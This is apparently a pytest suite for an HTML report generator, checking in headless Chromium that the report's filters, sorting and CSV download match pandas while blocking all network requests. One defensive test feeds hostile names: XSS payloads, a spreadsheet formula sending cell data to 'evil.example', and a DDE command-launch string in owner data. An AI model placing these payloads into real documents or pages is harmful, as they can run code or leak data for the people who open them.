"""The HTML report driven in headless Chromium (Debian's ``chromium``), offline.

Every request that is not ``file:`` is aborted and counted (there must be none); the
page's count, ids, table and downloaded CSV must equal ``df.images.select`` and
``imgframe.to_csv`` of the same selection, byte for byte. Deselect with ``-m "not browser"``.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import imgframe
from imgframe.server import sample_inventory

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHROMIUM = os.environ.get("IMGFRAME_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]
PAGE = 50  # rows per table page (report.js)


@pytest.fixture(scope="module")
def browser():
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.fail("the browser test needs playwright: pip install -e '.[browser]'",
                    pytrace=False)
    path = shutil.which(CHROMIUM) or (CHROMIUM if Path(CHROMIUM).is_file() else None)
    if not path:
        pytest.fail(f"the browser test needs Chromium at {CHROMIUM} (apt-get install "
                    "chromium) or IMGFRAME_CHROMIUM", pytrace=False)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=path, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


def with_new_columns(df: pd.DataFrame) -> pd.DataFrame:
    """The sample frame plus the columns other sources bring (visibility, owner,
    protected, tags) and a sub-second time column: the page must handle any of them."""
    df = df.copy()
    n = len(df)
    rng = np.random.default_rng(3)
    df["visibility"] = pd.array(rng.choice(["public", "private", "shared", "community"], n),
                                dtype="string")
    owners = np.array(["alice", "bob", "=cmd|' /C calc'!A0", None], dtype=object)
    df["owner"] = pd.array(owners[rng.integers(0, 4, n)], dtype="string")
    protected = pd.array(rng.random(n) < 0.3, dtype="boolean")
    protected[rng.random(n) < 0.1] = pd.NA
    df["protected"] = protected
    tags = [["web", "prod"] if i % 3 == 0 else [] if i % 3 == 1 else None for i in range(n)]
    df["tags"] = pd.Series(tags, index=df.index, dtype=object)
    df["checked_at"] = df["created"] + pd.to_timedelta(rng.integers(0, 10**6, n), unit="us")
    return df


@pytest.fixture(scope="module")
def sample_df(module_image_server):
    srv = module_image_server(sample_inventory(1500, seed=7))
    df = imgframe.Client(srv.url, srv.project_id, token="t").load(progress=False)
    return with_new_columns(df)


class Page:
    """One report opened from file://, with every non-file request aborted and counted."""

    def __init__(self, browser, path: Path):
        self.leaving: list[str] = []
        self.errors: list[str] = []
        self.context = browser.new_context(accept_downloads=True,
                                           viewport={"width": 1300, "height": 900})
        self.page = self.context.new_page()
        self.page.route("**/*", self._route)
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.goto(path.resolve().as_uri())
        self.page.wait_for_selector("html[data-imgframe-ready]", timeout=60_000)

    def _route(self, route):
        url = route.request.url
        if url.startswith("file:"):
            route.continue_()
        else:
            self.leaving.append(url)
            route.abort()

    def close(self):
        self.context.close()

    def count(self) -> int:
        text = self.page.locator(".imgframe-count").inner_text()
        m = re.search(r"([\d,]+) of ([\d,]+) images", text)
        assert m, text
        return int(m.group(1).replace(",", ""))

    def table_ids(self) -> list[str]:
        return self.page.eval_on_selector_all(".imgframe-rows tbody tr",
                                              "trs => trs.map(t => t.dataset.id)")

    def download(self) -> bytes:
        with self.page.expect_download() as info:
            self.page.click(".imgframe-download")
        return Path(info.value.path()).read_bytes()


@pytest.fixture
def open_report(browser, tmp_path):
    pages = []

    def opener(df, **options) -> Page:
        path = imgframe.report(df, tmp_path / f"report{len(pages)}.html", **options)
        pages.append(Page(browser, path))
        return pages[-1]

    yield opener
    for p in pages:
        assert p.leaving == [], p.leaving
        assert p.errors == [], p.errors
        p.close()


def check(p: Page, expected: pd.DataFrame, *, download: bool = True) -> None:
    """Count, ids (window.imgframe.selection and the table) and CSV equal ``expected``."""
    ids = expected["id"].tolist()
    assert p.count() == len(expected)
    assert p.page.evaluate("imgframe.selection()") == ids
    assert p.table_ids() == ids[:PAGE]
    if download:
        assert p.download() == imgframe.to_csv(expected).encode("utf-8")


def test_every_query_matches_python(open_report, sample_df):
    """window.imgframe.select(query) == df.images.select(**query), many queries."""
    df = sample_df
    p = open_report(df)
    assert p.page.evaluate("imgframe.rows") == len(df)
    queries = [
        {},
        {"status": ["saving"]},
        {"status": "ACTIVE,unknown"},
        {"name": "ubuntu*"},
        {"name": "ubuntu-2[0-2].04*"},
        {"name": "*[!a-m]-20260101"},
        {"name": "[]a]*"},
        {"name": "ubuntu-22.04-server-amd64-20240501"},
        {"since": "2026-01-01", "until": "2026-03-31T23:59:59Z"},
        {"since": "2026-06-01T00:00:00+02:00", "column": "created"},
        {"until": "2025-12-31", "status": ["SAVING", "UNKNOWN"], "name": "*-snapshot-*"},
    ]
    for q in queries:
        expected = df.images.select(**q)["id"].tolist()
        assert p.page.evaluate("q => imgframe.select({...q, sort: null})", q) == expected, q
    for pattern in ["^ubuntu-2[24]", "snapshot", r"\d{8}$"]:
        expected = df.images.select(name=re.compile(pattern))["id"].tolist()
        got = p.page.evaluate("r => imgframe.select({name: new RegExp(r), sort: null})", pattern)
        assert got == expected, pattern
        assert p.page.evaluate("r => imgframe.select({name: {regex: r}, sort: null})",
                               pattern) == expected
    # facet-like columns: same as isin
    got = p.page.evaluate("imgframe.select({visibility: ['public', 'shared'], sort: null})")
    assert got == df[df["visibility"].isin(["public", "shared"])]["id"].tolist()
    got = p.page.evaluate("imgframe.select({protected: true, sort: null})")
    assert got == df[df["protected"].fillna(False)]["id"].tolist()
    # the same CSV as to_csv, straight from the API
    csv = p.page.evaluate("imgframe.csv({status: ['saving'], sort: null})")
    assert csv == imgframe.to_csv(df.images.select(status="saving"))
    # errors name the parameter
    for q, word in [({"status": ["bogus"]}, "status"), ({"column": "size", "since": "2026"},
                                                         "column"),
                    ({"since": "2026-02-01", "until": "2026-01-01"}, "until")]:
        message = p.page.evaluate(
            "q => { try { imgframe.select(q); return null } catch (e) { return e.message } }", q)
        assert message and message.startswith(word), (q, message)


def test_controls_match_python(open_report, sample_df):
    df = sample_df
    p = open_report(df)
    page = p.page
    check(p, df)

    page.click(".imgframe-status-saving")
    saving = df.images.select(status=["SAVING"])
    check(p, saving)
    page.click(".imgframe-status-unknown")
    check(p, df.images.select(status=["SAVING", "UNKNOWN"]))
    page.click(".imgframe-status-saving")
    page.click(".imgframe-status-unknown")
    check(p, df, download=False)

    name = page.locator(".imgframe-name input")
    exact = df["name"].dropna().iloc[5]
    name.fill(exact)
    check(p, df.images.select(name=exact))
    name.fill("ubuntu*")
    check(p, df.images.select(name="ubuntu*"))
    name.fill("/^(debian|centos)-1?\\d/")
    check(p, df.images.select(name=re.compile(r"^(debian|centos)-1?\d")))
    name.fill("/ubuntu(/")
    page.wait_for_selector(".imgframe-name-message:has-text('invalid regular expression')")
    assert p.count() == 0
    assert page.locator(".imgframe-download").is_disabled()
    name.fill("ubuntu*")

    page.locator(".imgframe-since").fill("2026-02-01")
    page.locator(".imgframe-until").fill("2026-06-30")
    q = dict(name="ubuntu*", since="2026-02-01T00:00:00Z", until="2026-06-30T23:59:59.999999999Z")
    assert page.evaluate("imgframe.query()")["until"] == q["until"]
    check(p, df.images.select(**q))
    page.click(".imgframe-column-created")
    check(p, df.images.select(**q, column="created"))
    page.click(".imgframe-status-active")
    selection = df.images.select(**q, column="created", status="ACTIVE")
    check(p, selection)

    # sort: ascending, descending (stable, NA last, like pandas), then frame order again
    page.locator(".imgframe-controls").click()  # leave the date box
    for column in ("size", "name"):
        header = page.locator(f".imgframe-rows th[data-column={column}]")
        header.click()
        check(p, selection.sort_values(column, kind="stable", na_position="last"))
        page.locator(f".imgframe-rows th[data-column={column}]").click()
        check(p, selection.sort_values(column, ascending=False, kind="stable",
                                       na_position="last"), download=column == "name")
        page.locator(f".imgframe-rows th[data-column={column}]").click()
    check(p, selection, download=False)

    # facets for the new columns; paging
    page.select_option(".imgframe-facet-visibility", "private")
    check(p, selection[selection["visibility"] == "private"])
    page.select_option(".imgframe-facet-visibility", "")
    page.locator(".imgframe-name input").fill("")
    page.locator(".imgframe-since").fill("")
    page.locator(".imgframe-until").fill("")
    page.click(".imgframe-status-active")
    check(p, df, download=False)
    page.click(".imgframe-next")
    assert p.table_ids() == df["id"].tolist()[PAGE:2 * PAGE]


HOSTILE = [
    "<img src=x onerror=window.__pwned=1>",
    "</script><script>window.__pwned=1</script>",
    "<!-- <script>window.__pwned=1</script> -->",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2", "-2-3", "@SUM(1)", "\tTab", "\rCR", "", "'", "'=x",
    "\u202egnp.exe",                   # right-to-left override
    "a\x00b\x1b[31mred\x07",            # control characters
    'quote " comma , and\nnewline\r\nCRLF',
    "line\u2028separator\u2029para & <b>bold</b>",
    "emoji 😀 and 日本語",
]


@pytest.mark.parametrize("compress", [False, True])
def test_hostile_names_are_text(open_report, sample_df, compress):
    df = sample_df.head(len(HOSTILE) + 3).copy()
    df["name"] = pd.array(HOSTILE + [None, "x", "y"], dtype="string")
    df["metadata"] = pd.Series([{"k": n, "<script>": "</script>"} for n in df["name"]],
                               index=df.index, dtype=object)
    p = open_report(df, compress=compress)
    page = p.page
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.locator("img").count() == 0 and page.locator("b").count() == 1  # the count
    cells = page.eval_on_selector_all(".imgframe-rows tbody td:first-child",
                                      "tds => tds.map(t => t.textContent)")

    def pictured(text):
        return re.sub(r"[\x00-\x1f\x7f]",
                      lambda m: "\u2421" if m.group() == "\x7f" else chr(0x2400 + ord(m.group())),
                      text)

    assert cells == [pictured(n) for n in HOSTILE] + ["\u2013", "x", "y"]
    check(p, df)
    for name in HOSTILE[:3]:
        assert page.evaluate("n => imgframe.select({name: n, sort: null})", name) == \
            df.images.select(name=name)["id"].tolist()
    page.click(".imgframe-rows th[data-column=name]")
    check(p, df.sort_values("name", kind="stable", na_position="last"))
    assert page.evaluate("typeof window.__pwned") == "undefined"


def test_empty_frame(open_report, sample_df):
    p = open_report(sample_df.iloc[0:0])
    assert p.page.evaluate("imgframe.rows") == 0
    check(p, sample_df.iloc[0:0])
